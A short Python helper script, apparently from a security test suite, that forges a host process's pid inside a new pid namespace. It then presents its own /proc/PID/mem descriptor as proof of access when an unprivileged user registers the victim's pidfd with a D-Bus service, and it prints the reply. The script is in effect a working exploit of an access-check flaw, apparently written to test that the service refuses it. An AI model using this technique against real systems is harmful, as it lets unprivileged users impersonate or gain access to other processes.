# SPDX-License-Identifier: GPL-2.0-or-later
"""Run inside a new pid and mount namespace (unshare --pid --mount --fork
--mount-proc): makes a process whose pid in this namespace is the victim's
pid on the host, opens that process's /proc/PID/mem, and has the unprivileged
user nobody register the victim's pidfd (inherited, a host pidfd) with that
descriptor as its proof of access. Prints the D-Bus answer.

pidns_forger.py VICTIM_PID VICTIM_PIDFD PYLIB SOCKET SETPRIV_ARG..."""

import os
import subprocess
import sys

victim, pidfd, pylib, sock, setpriv = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5:]
with open("/proc/sys/kernel/ns_last_pid", "w") as f:
    f.write(str(victim - 1))
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    os.close(w)
    os.read(r, 1)
    os._exit(0)
assert pid == victim, (pid, victim)
mem = os.open(f"/proc/{victim}/mem", os.O_RDONLY)
code = ("import sys; sys.path.insert(0, %r); from dbus_peer import Variant, call; "
        "r = call(%r, 'RegisterProcessByPIDFD', 'ha{sv}', (%d, {'Memory': Variant('h', %d)})); "
        "print(r.error_name, '|', r.error_message)" % (pylib, sock, pidfd, mem))
out = subprocess.run(setpriv + [sys.executable, "-c", code], pass_fds=(mem, pidfd), capture_output=True,
                     text=True)
print(out.stdout, out.stderr)
os.close(w)
os.waitpid(pid, 0)
